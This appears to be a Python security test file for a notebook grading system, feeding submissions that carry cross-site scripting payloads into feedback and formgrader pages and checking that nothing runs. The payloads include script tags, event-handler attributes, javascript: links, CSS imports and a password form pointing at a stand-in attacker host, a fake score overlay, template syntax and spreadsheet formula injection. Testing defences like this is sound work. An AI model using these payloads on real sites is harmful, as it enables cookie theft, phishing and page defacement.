"""What a learner writes is shown to an instructor: in the feedback, and by the formgrader.

None of it may run, fetch or cover anything there. kit.damage looks at every page of every case;
here are the submissions that try. All the answers are right.
"""

import re
import textwrap

from attacks.kit import FULL, Group, answers, words_of

PAGES = Group("pages", score=(FULL, FULL), not_reason="grader failed", seconds=120.0)
WORDS = "readable essay words"


def still_readable(kit):
    """The feedback shows what was written, as text."""
    assert WORDS in words_of(kit.page()), "the written answer cannot be read"
    cell = next(c for c in kit.graded().cells if c.id == "written-answer")
    assert WORDS in cell.source, "the formgrader does not show the written answer"


def essay(name, why, text, after=still_readable, **expect):
    PAGES.add(f"essay-{name}", why, answers(written=f"{text}\n\n{WORDS}\n"), after=after, **expect)


def shows(name, why, source, **expect):
    """A case in which a cell shows something."""
    PAGES.add(f"shows-{name}", why, answers(extra=[("sanity-run", textwrap.dedent(source))]),
              **expect)


RUN = "alert(document.cookie)"
essay("scripts", "scripts, whole and in pieces", f"<script>{RUN}</script> and "
      f"<scr<script>ipt>{RUN}</scr</script>ipt>\n\n<ScRiPt\n>{RUN}</sCrIpT\n>")
essay("script-open", "a script that is never closed", "<script src=//attack.invalid/x.js ")
essay("handlers", "attributes that run", f"<img src=x onerror={RUN}> <img/src=x/onerror={RUN}> "
      f"<svg onload={RUN}><script>{RUN}</script></svg> <details open ontoggle={RUN}>x</details>")
essay("elements", "pages, objects, forms, other addresses", f"<iframe srcdoc='<script>{RUN}"
      "</script>'></iframe> <object data='data:text/html,x'></object> <embed src=x> "
      "<form action=//attack.invalid><input name=password type=password></form> "
      "<base href=//attack.invalid/> "
      "<meta http-equiv=refresh content='0;url=//attack.invalid'>")
essay("style", "a style that tells what is on the page",
      "<style>@import url(//attack.invalid); td{background:url(//attack.invalid/?x)}</style>")
essay("overlay", "a better score on top of the page",
      "<div style='position:fixed;inset:0;background:#fff'>25 of 25 points</div>")
essay("links", "links and a picture that run", f"""[a](javascript:{RUN}) [b][x] <javascript:{RUN}>
<a href='javascript:{RUN}'>c</a> <a href='java\tscript:{RUN}'>d</a> ![e](javascript:{RUN})
[f](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [g](vbscript:msgbox(1))

[x]: javascript:{RUN}""")
essay("links-entities", "links with entities",
      f"<a href='&#106;ava&#x73;cript&colon;{RUN}'>click</a> [c](&#106;avascript:{RUN})")
essay("picture-title", "a title that ends itself", f"![x](y.png '\"onerror=\"{RUN}')")
essay("mathjax-href", "a link in a formula", f"$\\href{{javascript:{RUN}}}{{x}}$")
essay("mathjax-style", "a style in a formula",
      "$\\style{position:fixed;inset:0}{25} \\class{x}{y} \\require{html}$")
essay("math-escape", "HTML in a formula", f"$<img src=x onerror={RUN}>$ $$</script><script>{RUN}$$")
essay("code-fence", "HTML that ends a code block", f"```html\n</code></pre><script>{RUN}</script>\n"
      "```")
essay("comment", "HTML in a comment that ends early", f"<!--><script>{RUN}</script>-->")
essay("jinja", "a template's own signs", "{{ 7 * 7 }} {% raw %} {{ config }} {# x #}")
essay("textarea", "an element that swallows the rest", "<textarea><title><xmp><plaintext>")
essay("end-of-page", "the page ends here", "</pre></body></html>")
essay("null", "characters that are none", "a\x00b\x1b[31m\x08\ufffe")
essay("entity-bomb", "very many elements", "<b>" * 20_000)
essay("nested-quotes", "very many quotes", ">" * 3000 + " deep")
essay("brackets", "many open brackets", "[" * 20_000)


def honest_signs(kit):
    """Signs of mathematics and of code are shown as they were typed."""
    text = words_of(kit.page())
    assert "recall < ndcg && k > 3" in text, "the signs < and & were lost in the feedback"
    still_readable(kit)


essay("mathematics", "signs that HTML uses too", "if recall < ndcg && k > 3, then $a<b$ & `x<y`",
      after=honest_signs)


def jinja_untouched(kit):
    """A template's signs are shown, and not worked out."""
    assert "49" not in re.findall(r"\b49\b", words_of(kit.page())), "a template was run"


PAGES.add("jinja-in-output", "a template's signs in an output", answers(
    extra=[("sanity-run", "print('{{ 7 * 7 }} {% for x in y %}')")]), after=jinja_untouched)


@PAGES.case("a picture is attached to the written answer", after=still_readable)
def attachment(kit):
    notebook = kit.fill({"written-answer": f"![x](attachment:x.svg)\n\n{WORDS}"})
    cell = next(c for c in notebook.cells if c.id == "written-answer")
    cell["attachments"] = {"x.svg": {"image/svg+xml": f"<svg onload={RUN}></svg>",
                                     "text/html": f"<script>{RUN}</script>"}}
    kit.save(notebook)


@PAGES.case("prose of the learner's own, with a script")
def own_markdown(kit):
    import nbformat
    notebook = kit.fill()
    notebook.cells.insert(3, nbformat.v4.new_markdown_cell(f"<script>{RUN}</script>"))
    notebook.cells.insert(4, nbformat.v4.new_raw_cell(f"<script>{RUN}</script>"))
    kit.save(notebook)


@PAGES.case("locked prose with a script in it")
def locked_markdown(kit):
    notebook = kit.fill()
    notebook.cells[0].source += f"\n\n<script>{RUN}</script>"
    kit.save(notebook)


@PAGES.case("metadata that a page may show")
def metadata(kit):
    notebook = kit.fill()
    notebook.metadata.update(title=f"<script>{RUN}</script>", authors=[{"name": f"<b {RUN}>"}])
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {"</script><script>": 1}, "version_major": 2, "version_minor": 0}}
    kit.save(notebook)


OUTPUTS = {
    "text/html": f"<script>{RUN}</script>", "application/javascript": RUN,
    "image/svg+xml": f"<svg onload='{RUN}'/>", "x/<script>": "x", "application/pdf": "JVBERi0xLjQ=",
    "text/markdown": f"<script>{RUN}</script>[x](javascript:{RUN})",
    "text/latex": f"$\\href{{javascript:{RUN}}}{{x}}$",
    "application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>"},
}
shows("outputs", "outputs of all the types that a browser works on", f"""
    from IPython.display import display
    for kind, content in {OUTPUTS!r}.items():
        display({{kind: content, "text/plain": "plain"}}, raw=True)
    """)
for kind in ("png", "jpeg"):
    shows(f"{kind}-that-is-not", "a picture that ends its own element", f"""
        from IPython.display import display
        display({{"image/{kind}": 'x" onerror="{RUN}', "text/plain": "plain"}}, raw=True)
        """)
shows("iframe", "an IFrame of IPython", "from IPython.display import IFrame\n"
      "IFrame('data:text/html,x', 10, 10)")
shows("html-object", "an object with HTML", f"""
    class Evil:
        def _repr_html_(self):
            return "<script>{RUN}</script>"
        def _repr_javascript_(self):
            return "{RUN}"
        def __repr__(self):
            return "<script>{RUN}</script>"
    Evil()
    """)
shows("stream", "HTML and colours in what is printed",
      f"print('\\x1b[31m<script>{RUN}</script>\\x1b[0m\\x1b]8;;http://x\\x07')")
shows("error", "HTML in an error", f"raise ValueError('<script>{RUN}</script>')")
shows("error-name", "HTML in the name of an error",
      f"raise type('<script>{RUN}</script>', (Exception,), {{}})")
shows("error-traceback", "HTML in a traceback", f"""
    class Evil(Exception):
        def _render_traceback_(self):
            return ["<script>{RUN}</script>"]
    raise Evil
    """)
shows("metadata", "HTML in an output's metadata", f"""
    from IPython.display import display
    display({{"text/plain": "x"}}, raw=True,
            metadata={{"image/png": {{"alt": '" onerror="{RUN}', "width": '" onload="x'}}}})
    """)
shows("source", "HTML in a comment of a cell", f"# </pre><script>{RUN}</script>\nx = 1")
PAGES.add("verdict-type", "HTML in the name of a type that comes back", answers(
    dcg=f"def dcg_at_k(relevance, k):\n    return type('<script>{RUN}</script>', (), {{}})()\n"),
    score=(18, 18))
PAGES.add("verdict-error", "HTML in an error of a function", answers(
    dcg=f"def dcg_at_k(relevance, k):\n    raise ValueError('<script>{RUN}</script>')\n"),
    score=(18, 18))
PAGES.add("verdict-print", "HTML printed by a function", answers(
    dcg=f"def dcg_at_k(relevance, k):\n    print('<script>{RUN}</script>')\n    return 1.0\n"),
    score=(18, 18))
PAGES.add("verdict-name", "HTML in the name of a function", answers(
    dcg=f"def dcg_at_k(relevance, k):\n    return 1.0\n"
        f"dcg_at_k.__name__ = '<script>{RUN}</script>'\n"), score=(18, 18))
PAGES.add("formula-in-the-table", "a reason that a spreadsheet would run", answers(
    dcg="def dcg_at_k(relevance, k):\n    raise ValueError('=1+1')\n"), score=(18, 18),
    after=lambda kit: no_formula(kit))


def no_formula(kit):
    """No cell of grades.csv begins like a formula."""
    import csv
    with kit.where.table.open(encoding="utf-8", newline="") as file:
        for row in csv.reader(file):
            assert not any(cell[:1] in "=+@\t\r" and cell for cell in row), f"a formula: {row[:2]}"


@PAGES.case("a notebook whose name is HTML", reason="it was taken as|called")
def html_name(kit):
    kit.save(kit.fill(), "<img src=x onerror=alert(1)>.ipynb")
